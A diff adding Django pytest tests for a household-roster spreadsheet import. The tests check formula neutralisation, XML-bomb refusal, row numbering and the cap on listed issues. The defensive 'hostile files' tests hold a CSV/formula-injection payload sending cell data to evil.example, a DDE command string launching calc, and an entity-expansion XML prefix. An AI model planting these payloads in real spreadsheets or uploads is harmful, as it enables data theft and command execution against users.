@@ -2,18 +2,22 @@
 
 import io
 import os
+import re
 import time
+import zipfile
 
 import pytest
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.urls import reverse
-from django.utils import timezone
+from django.utils import timezone, translation
+from django.utils.html import escape
 from openpyxl import load_workbook
 
 from accounts.models import Role
 from households import idnumbers, tasks
 from households.models import Household, ImportBatch, Member
 from households.roster import batches
+from households.roster.issues import MESSAGES
 from households.tests import roster_workbooks as rw
 from households.tests.factories import UserFactory
 from townaid import celery_app
@@ -401,3 +405,108 @@ def test_with_the_broker_down_confirming_fails_fast_and_the_batch_may_be_confirm
     assert "Confirm and apply" in page.text
     assert "The background worker could not be reached, so nothing was applied." in page.text
     assert not Household.objects.exists()
+
+
+# ---------------------------------------------------------------- hostile files
+
+
+def test_formulas_in_the_upload_come_back_in_the_marked_workbook_as_inert_text_still_marked_red(
+    client, english, admin, dongfeng
+):
+    link = '=HYPERLINK("http://evil.example/steal?d="&E2,"click")'
+    command = "=cmd|' /C calc'!A0"
+
+    def text_that_looks_like_a_formula(sheet):
+        sheet.cell(row=2, column=26, value=command).data_type = "s"  # typed as text (Excel's leading ')
+
+    rows = rw.household(members=[rw.person(name=link)])
+    batch = upload_batch(rw.workbook(rows, finish=text_that_looks_like_a_formula), admin)
+    assert batch.status == Status.INVALID
+    client.force_login(admin)
+    response = client.get(reverse("households:import-errors", args=[batch.pk]))
+    parts = zipfile.ZipFile(io.BytesIO(response.content))
+    assert not re.search(rb"<(\w+:)?f[ >]", parts.read("xl/worksheets/sheet1.xml"))  # no formula anywhere
+    sheet = load_workbook(io.BytesIO(response.content))["花名册"]
+    assert (sheet["D2"].data_type, sheet["D2"].value) == ("s", "'" + link)
+    assert sheet["D2"].fill.start_color.rgb.endswith("FFC7CE")
+    assert "formulas are not evaluated" in sheet["D2"].comment.text
+    assert (sheet["Z2"].data_type, sheet["Z2"].value) == ("s", "'" + command)
+    assert sheet["E2"].value == rows[0]["id_number"]  # everything else as it was
+
+
+def test_the_marked_workbook_keeps_the_row_numbers_of_rows_after_a_gap(client, english, admin, dongfeng):
+    bad = rw.household(members=[rw.person(work_months=13)])
+    batch = upload_batch(rw.workbook([*rw.household(), *[None] * 400, *bad]), admin)
+    client.force_login(admin)
+    sheet = load_workbook(io.BytesIO(client.get(reverse("households:import-errors", args=[batch.pk])).content))[
+        "花名册"
+    ]
+    assert sheet["P405"].value == 13
+    assert "13 is outside 0-12." in sheet["P405"].comment.text
+
+
+def test_a_file_whose_dimension_understates_its_size_is_still_checked_in_the_background(
+    client, admin, dongfeng, background, django_capture_on_commit_callbacks
+):
+    data = rw.with_dimension(rw.workbook(rw.household() + rw.household() + rw.household()), "A1:X2")
+    client.force_login(admin)
+    with django_capture_on_commit_callbacks() as queued:
+        upload(client, data)
+    batch = ImportBatch.objects.get()
+    assert (batch.status, batch.background, batch.rows_total, len(queued)) == (Status.QUEUED, True, 10, 1)
+    tasks.validate_roster.apply(args=[batch.pk])
+    batch.refresh_from_db()
+    assert (batch.status, batch.counts["rows"], batch.counts["households"]["created"]) == (Status.READY, 9, 3)
+
+
+def test_a_hostile_upload_is_refused_in_the_users_language_without_the_exception_or_a_path(
+    client, admin, dongfeng, settings
+):
+    laughs = b'<!DOCTYPE worksheet [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
+    data = rw.with_sheet(rw.workbook(rw.household()), lambda xml: laughs + xml)
+    client.force_login(admin)  # in Chinese, the site's language
+    page = upload(client, data, follow=True)
+    batch = ImportBatch.objects.get()
+    assert batch.status == Status.INVALID
+    assert list(batch.issues.values_list("code", "params")) == [("unsafe_xml", {})]
+    with translation.override("zh-hans"):
+        assert escape(str(MESSAGES["unsafe_xml"])) in page.text
+    for leak in ("Entities", "Forbidden", "ValueError", "Unable to read", str(settings.MEDIA_ROOT), batch.file.name):
+        assert leak not in page.text
+
+
+# ---------------------------------------------------------------- at most ROSTER_MAX_ISSUES issues kept
+
+
+@pytest.fixture
+def nine_issues(dongfeng):
+    """A roster of 8 households whose heads all work 13 months (8 errors), with a column not in the format."""
+    columns, headers = [*rw.ALL, "note"], [*(rw.ZH[key] for key in rw.ALL), "备注"]
+    rows = [row for _ in range(8) for row in rw.household(members=[rw.person(work_months=13)])]
+    return rw.workbook(rows, columns=columns, headers=headers)
+
+
+def test_only_the_first_issues_are_kept_and_the_page_says_how_many_more_there_are(
+    client, english, admin, settings, nine_issues
+):
+    settings.ROSTER_MAX_ISSUES = 5
+    batch = upload_batch(nine_issues, admin)
+    assert (batch.status, batch.error_count, batch.warning_count) == (Status.INVALID, 8, 1)
+    assert [(issue.row, issue.code) for issue in batch.issues.all()] == [(row, "out_of_range") for row in range(2, 7)]
+    assert batch.counts["unlisted"] == {"errors": 3, "warnings": 1}
+    client.force_login(admin)
+    page = client.get(reverse("households:import-detail", args=[batch.pk])).text
+    assert "Done: the file has errors (8); nothing was changed." in page
+    assert "…and 3 more errors not listed." in page
+    assert "…and 1 more warnings not listed." in page
+    listing = load_workbook(io.BytesIO(client.get(reverse("households:import-errors", args=[batch.pk])).content))
+    reasons = [row[3] for row in listing["Errors"].iter_rows(values_only=True)]
+    assert reasons[-2:] == ["…and 3 more errors not listed.", "…and 1 more warnings not listed."]
+
+
+def test_under_the_limit_every_issue_is_kept_and_nothing_is_said_about_more(client, english, admin, nine_issues):
+    batch = upload_batch(nine_issues, admin)
+    assert batch.issues.count() == 9
+    assert batch.counts["unlisted"] == {"errors": 0, "warnings": 0}
+    client.force_login(admin)
+    assert "not listed" not in client.get(reverse("households:import-detail", args=[batch.pk])).text
